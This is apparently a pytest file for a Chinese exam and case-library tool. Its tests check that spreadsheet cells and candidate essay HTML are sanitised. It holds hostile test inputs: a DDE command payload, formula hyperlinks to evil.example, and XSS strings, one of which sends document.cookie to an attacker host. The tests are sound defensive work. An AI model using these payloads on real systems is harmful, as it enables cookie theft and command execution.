"""No candidate and no spreadsheet can corrupt an exam: the input, injection and scale half.

One test per failure a security review reproduced, named after it.
"""
from __future__ import annotations

import csv
import html
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from nbconvert.filters.markdown_mistune import markdown2html_mistune

from qingfeng.cases import load_library
from qingfeng.cases.columns import COLUMNS
from qingfeng.cases.exporter import export_library
from qingfeng.cases.importer import import_sheet
from qingfeng.chinese_text import as_typed, id_text, normalise
from qingfeng.exam.sanitise import sanitise_cell, sanitise_markdown
from qingfeng.spreadsheet import read_table, restore_cell, safe_cell, write_csv, write_frames, write_xlsx
from qingfeng.stats.data import ScoreTable, load_plain_table
from qingfeng.stats.report import build_report, write_report

from .test_case_import import good_row, xlsx

LINK = '=HYPERLINK("http://evil.example/x","点此查看")'


def csv_sheet(path: Path, rows: list[dict], encoding: str = "utf-8-sig") -> Path:
    headers = [c.header for c in COLUMNS]
    with path.open("w", encoding=encoding, newline="") as fh:
        w = csv.writer(fh)
        w.writerow(headers)
        for r in rows:
            w.writerow([r.get(h, "") for h in headers])
    return path


def no_formulas(path: Path) -> list[str]:
    """Every cell of every sheet that Excel would run, as written in the file (not computed)."""
    wb = openpyxl.load_workbook(path, data_only=False)
    found = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                v = cell.value
                if cell.data_type == "f" or (isinstance(v, str) and v and v[0] in "=+-@＝＋－＠\t\r" and not v.lstrip("+-").replace(".", "").isdigit()):
                    found.append(f"{ws.title}!{cell.coordinate}={v!r}")
    return found


# --- formula injection -------------------------------------------------------------------------

@pytest.mark.parametrize("text", [LINK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", " =1+1",
                                  "＝HYPERLINK(\"http://x\")", "＋1", "－A1", "＠x"])
def test_cells_that_spreadsheets_would_run_are_neutralised_and_restored(text):
    safe = safe_cell(text)
    assert safe == "'" + text
    assert restore_cell(safe) == text


@pytest.mark.parametrize("value", [-1, -1.5, 0, 39.0, "-1", "+3.5", "1e3", "交通局", "张三", "", None, "a=b", "'plain"])
def test_numbers_and_plain_text_are_left_alone(value):
    assert safe_cell(value) == value and restore_cell(value) == value


def test_case_title_hyperlink_from_csv_is_not_a_live_formula_in_cases_export(project, tmp_path):
    cases_dir = project / "risk_case_library" / "cases"
    report = import_sheet(csv_sheet(tmp_path / "in.csv", [good_row(标题=LINK, 岗位="@岗位")]), cases_dir)
    assert report.errors == [], report.lines()
    case = load_library(cases_dir).by_id(report.added[0])
    assert case.title == LINK  # stored as typed
    export_library(cases_dir, tmp_path / "out.xlsx")
    assert no_formulas(tmp_path / "out.xlsx") == []
    ws = openpyxl.load_workbook(tmp_path / "out.xlsx")["案例"]
    titles = [c.value for c in ws["B"]]
    assert "'" + LINK in titles
    again = import_sheet(tmp_path / "out.xlsx", cases_dir)  # export → import round-trips
    assert again.errors == [] and not again.added and not again.updated


def _table(unit: str, essay_pending: bool = False) -> ScoreTable:
    items = pd.DataFrame({"题号": ["一-1", "一-2", "二-1"], "部分": ["一", "一", "二"], "题型": ["单选", "判断", "简答"],
                          "满分": [2.0, 1.0, 5.0], "风险类别": [("思想道德风险",), ("岗位职责风险",), ("思想道德风险",)],
                          "options": [("A", "B"), (), ()]}, index=["I1", "I2", "E1"])
    scores = pd.DataFrame({"I1": [2, 0, 2, 2], "I2": [1, 1, 0, 1], "E1": [np.nan] * 4 if essay_pending else [3, 4, 1, 5]},
                          index=pd.Index(["a", "b", "c", "d"], name="编号"), dtype=float)
    roster = pd.DataFrame({"姓名": ["張乾", "於一", "乙", "丙"], "单位": [unit, unit, "教育局", "教育局"], "部门": ["", "", "", ""],
                           "岗位": ["-科员", "", "", ""]}, index=scores.index)
    return ScoreTable("t", "测试卷", items, scores, roster, pd.Series(False, index=scores.index))


def test_roster_unit_hyperlink_is_not_a_live_formula_in_the_statistics_workbook_and_csv(tmp_path):
    files = write_report(build_report(_table(LINK), with_charts=False), tmp_path / "out")
    assert no_formulas(files["xlsx"]) == []
    units = [c.value for c in openpyxl.load_workbook(files["xlsx"])["按单位"]["B"]]
    assert "'" + LINK in units
    with files["csv"].open(encoding="utf-8-sig", newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
        assert all(not cell or cell[0] not in "=+-@" or cell.lstrip("-").replace(".", "").isdigit() for cell in cells)
    assert "<a href" not in files["html"].read_text(encoding="utf-8")


def test_shared_writers_neutralise_every_cell_and_keep_numbers_numbers(tmp_path):
    rows = [["p01", LINK, -1, -0.5], ["p02", "\t=cmd", 39, None]]
    write_xlsx(tmp_path / "a.xlsx", {"表": (["编号", "单位", "得分", "扣分"], rows)})
    write_csv(tmp_path / "a.csv", ["编号", "单位", "得分", "扣分"], rows)
    write_frames(tmp_path / "f.xlsx", {"表": pd.DataFrame(rows, columns=["编号", "单位", "得分", "扣分"])})
    for name in ("a.xlsx", "f.xlsx"):
        assert no_formulas(tmp_path / name) == []
        ws = openpyxl.load_workbook(tmp_path / name).worksheets[0]
        assert ws["C2"].value == -1 and isinstance(ws["C2"].value, int) and ws["D2"].value == -0.5
    for name in ("a.xlsx", "a.csv", "f.xlsx"):  # our own import restores what was typed
        t = read_table(tmp_path / name)
        got = [(r["单位"], r["得分"]) for _, r in t.rows]
        assert got[0][0] == LINK and got[1][0] == "\t=cmd" and str(got[0][1]) == "-1"


# --- candidate HTML ------------------------------------------------------------------------------

HOSTILE = {
    "script": "<script>alert(document.cookie)</script>",
    "img onerror": '<img src=x onerror="fetch(\'http://evil.example/\'+document.cookie)">',
    "javascript link": "[点此](javascript:alert(1)) <a href=\"JaVaScRiPt:alert(2)\">再点</a>",
    "iframe": '<iframe src="http://evil.example/"></iframe>',
    "event attribute": '<p onmouseover="alert(3)">悬停</p><a href="https://ok.example/" onclick="alert(4)">链接</a>',
    "svg": '<svg><script>alert(5)</script></svg><svg onload="alert(6)">',
    "style": '<div style="background:url(javascript:alert(7))">x</div>',
}


def _live_attr(low: str, needle: str) -> bool:
    """Is needle inside a real tag (between an unescaped < and >)?"""
    i = 0
    while (i := low.find("<", i)) != -1:
        j = low.find(">", i)
        if j == -1:
            return False
        if needle in low[i:j]:
            return True
        i = j
    return False


@pytest.mark.parametrize("attack", list(HOSTILE))
def test_essay_html_reaching_formgrader_is_sanitised(attack):
    rendered = markdown2html_mistune(sanitise_markdown("我的答案：\n\n" + HOSTILE[attack]))  # what formgrader renders
    for tag in ("<script", "<img", "<iframe", "<svg"):
        assert tag not in rendered.lower()
    for needle in ("javascript:", "onerror", "onload", "onclick", "onmouseover", "style="):
        assert not _live_attr(rendered.lower(), needle), (attack, rendered)
    assert "我的答案" in rendered


def test_ordinary_markdown_survives_sanitising():
    src = "## 风险点\n\n1. **岗位职责**不清\n2. *审批*一人说了算\n\n- 建立台账\n- 定期轮岗\n\n详见 [办法](https://www.gov.cn/a.html)。\n\n> 引用原文"
    rendered = html.unescape(markdown2html_mistune(sanitise_markdown(src)))
    for part in ("<h2>风险点", "<ol>", "<strong>岗位职责</strong>", "<em>审批</em>", "<ul>", "<li>建立台账</li>",
                 '<a href="https://www.gov.cn/a.html">办法</a>', "<blockquote>"):
        assert part in rendered, part


def test_candidate_code_cell_outputs_lose_script_but_keep_text():
    cell = {"cell_type": "code", "source": "x", "metadata": {}, "outputs": [
        {"output_type": "display_data", "metadata": {}, "data": {"text/html": "<b>粗</b><script>alert(1)</script>",
                                                                 "application/javascript": "alert(2)", "text/plain": "粗"}},
        {"output_type": "display_data", "metadata": {}, "data": {"image/svg+xml": "<svg onload=alert(3)>"}}]}
    out = sanitise_cell(cell)
    first, second = out["outputs"]
    assert "application/javascript" not in first["data"] and "<script" not in first["data"]["text/html"]
    assert "<b>粗</b>" in first["data"]["text/html"] and first["data"]["text/plain"] == "粗"
    assert "image/svg+xml" not in second["data"] and "已移除" in second["data"]["text/plain"]



def test_the_preprocessor_is_found_under_its_new_name_and_the_one_older_course_folders_use():
    from traitlets.utils.importstring import import_item

    from qingfeng.exam.sanitise_preprocessor import SanitiseCandidateCells

    assert import_item("qingfeng.exam.sanitise_preprocessor.SanitiseCandidateCells") is SanitiseCandidateCells
    assert import_item("qingfeng.exam.sanitise.SanitiseCandidateCells") is SanitiseCandidateCells  # copied course folders

# --- names as typed ------------------------------------------------------------------------------

@pytest.mark.parametrize("name", ["張乾", "於", "於一鸣", "乾隆", "钟乾坤"])
def test_personal_and_unit_names_are_stored_as_typed_not_converted_by_opencc(name):
    assert as_typed(f"  {name} ") == name
    assert normalise("業務流程") == "业务流程"  # vocabulary is still folded
    assert id_text("Ｍ２０－１") == "M20-1"


def test_case_free_text_is_kept_as_typed_and_traditional_title_is_reported_not_converted(project, tmp_path):
    cases_dir = project / "risk_case_library" / "cases"
    row = good_row(**{"地区或机关": "浙江省杭州市临安区於潜镇", "岗位": "乾元村会计", "风险类别": "業務流程風險"})
    report = import_sheet(xlsx(tmp_path / "a.xlsx", [row]), cases_dir)
    assert report.errors == [], report.lines()
    case = load_library(cases_dir).by_id(report.added[0])
    assert case.region == "浙江省杭州市临安区於潜镇" and case.post == "乾元村会计"
    assert case.annotation.categories[0] == "业务流程风险"
    bad = import_sheet(xlsx(tmp_path / "b.xlsx", [good_row(标题="張乾經手集體資金")]), cases_dir)
    assert any(e.row == 2 and e.column == "标题" and "含繁体字" in e.message and "張" in e.message for e in bad.errors)
    assert not any("乾" in e.message.split("”")[0] for e in bad.errors)


# --- full width, merged and formula cells, multi-line CSV ---------------------------------------

def test_full_width_measure_code_M20_1_is_accepted(project, tmp_path):
    cases_dir = project / "risk_case_library" / "cases"
    report = import_sheet(xlsx(tmp_path / "a.xlsx", [good_row(防控措施编号="Ｍ２０－１、ｍ１８－１")]), cases_dir)
    assert report.errors == [], report.lines()
    assert load_library(cases_dir).by_id(report.added[0]).annotation.prevention_measures == ["M20-1", "M18-1"]


def test_full_width_item_id_headers_are_accepted_in_a_score_table(tmp_path):
    t = _table("交通局")
    path = tmp_path / "s.csv"
    path.write_text("编号,Ｉ１,Ｉ２,Ｅ１\nａ,2,1,3\n", encoding="utf-8-sig")
    plain, errors = load_plain_table(path, t.items, t.roster, "t", "t")
    assert errors == [] and plain.scores.loc["a"].tolist() == [2.0, 1.0, 3.0]


def test_merged_and_formula_cells_are_reported_with_row_and_column_never_read_as_blank(tmp_path):
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["编号", "单位", "得分"])
    ws.append(["p01", "交通局", 3])
    ws.append(["p02", None, "=C2+1"])
    ws.append(["p03", None, 2])
    ws.merge_cells("B2:B4")
    wb.save(tmp_path / "m.xlsx")
    t = read_table(tmp_path / "m.xlsx")
    rows = list(t.rows)  # problems are complete once the rows are read
    assert rows[1] == (3, {"编号": "p02", "单位": None, "得分": None})
    msgs = [str(p) for p in t.problems]
    assert any(m.startswith("第 2 行，“单位”列：合并单元格 B2:B4（第 2～4 行") for m in msgs), msgs
    assert any(m.startswith("第 3 行，“得分”列：单元格 C3 是公式") for m in msgs), msgs


def test_quoted_multi_line_csv_cell_keeps_its_line_break(project, tmp_path):
    cases_dir = project / "risk_case_library" / "cases"
    facts = "村会计一人既管账又管钱，长期未对账。\n经查，造成集体资金收付无人复核。"
    report = import_sheet(csv_sheet(tmp_path / "a.csv", [good_row(事实经过=facts), good_row(岗位="村出纳", 事实经过=facts)]), cases_dir)
    assert report.errors == [], report.lines()
    assert load_library(cases_dir).by_id(report.added[0]).facts == facts
    bad = import_sheet(csv_sheet(tmp_path / "b.csv", [good_row(事实经过=facts), good_row(处置类别="罚站")]), cases_dir)
    assert any(e.row == 3 and e.column == "处置类别" for e in bad.errors)  # rows numbered as Excel shows them


# --- statistics with essays pending ------------------------------------------------------------

def test_stats_right_after_mark_with_every_essay_pending_reports_it_and_computes_over_what_is_marked(tmp_path):
    t = _table("交通局", essay_pending=True)
    r = build_report(t, with_charts=False)
    notes = "\n".join(r.notes)
    assert "待人工评分：4 名考生的 4 道题" in notes and "二-1" in notes
    assert "目前还没有全部评完的考生" in notes
    items = r.items.set_index("题目编号")
    assert items.loc["I1", "作答人数"] == 4 and items.loc["I1", "得分率"] == pytest.approx(0.75)
    assert items.loc["E1", "作答人数"] == 0
    assert r.categories["岗位职责风险"] == pytest.approx(0.75)
    write_report(r, tmp_path / "out")
